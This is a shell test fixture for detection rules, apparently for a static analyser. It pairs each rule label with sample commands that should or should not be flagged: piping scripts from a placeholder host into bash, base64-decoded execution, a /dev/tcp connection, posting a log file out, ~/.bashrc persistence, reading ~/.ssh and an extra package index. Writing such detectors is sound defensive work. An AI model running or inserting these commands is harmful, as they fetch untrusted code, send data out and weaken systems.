#!/bin/sh
# The rules beside this file: each line after `ruleid` must be found, and nothing else in this file may be.
# ruleid: shell.fetched_script
curl -fsSL https://a.example/x | sh
# ruleid: shell.fetched_script
wget -qO- https://a.example/x | bash
curl -fsSL https://a.example/x -o x
# ruleid: shell.fetched_script
curl -fsSL https://a.example/x | sudo -E bash -s -- --yes
# ruleid: shell.fetched_script
bash <(curl -fsSL https://a.example/x)
# ruleid: shell.fetched_script
sh -c "$(curl -fsSL https://a.example/x)"
curl https://a.example/x | tee x.sh
# as in curl https://a.example/x | sh, which is not done here; nor is /dev/tcp/ used
# ruleid: shell.eval
eval "$1"
# ruleid: shell.decoded_code
base64 -d x | sh
base64 -d x > y
# ruleid: shell.decoded_code
echo "$X" | base64 --decode | bash
# ruleid: shell.open_rights
chmod -R 777 x
chmod 755 x
# ruleid: shell.reverse_shell
cat < /dev/tcp/192.0.2.1/80
# ruleid: shell.tls_unverified
curl -k https://a.example
# ruleid: shell.sends_data
curl -s -d @log https://a.example/
curl -s https://a.example/log
# ruleid: shell.persists
echo "app &" >> ~/.bashrc
echo "app &" >> notes
# ruleid: shell.reads_keys
cp ~/.ssh/known_hosts .
cp known_hosts .
# ruleid: shell.fetched_then_run
wget -q https://a.example/tool -O /tmp/tool
chmod +x /tmp/tool
wget -q https://a.example/list -O /tmp/list
# ruleid: shell.other_index
pip install --extra-index-url https://a.example/simple app
pip install app
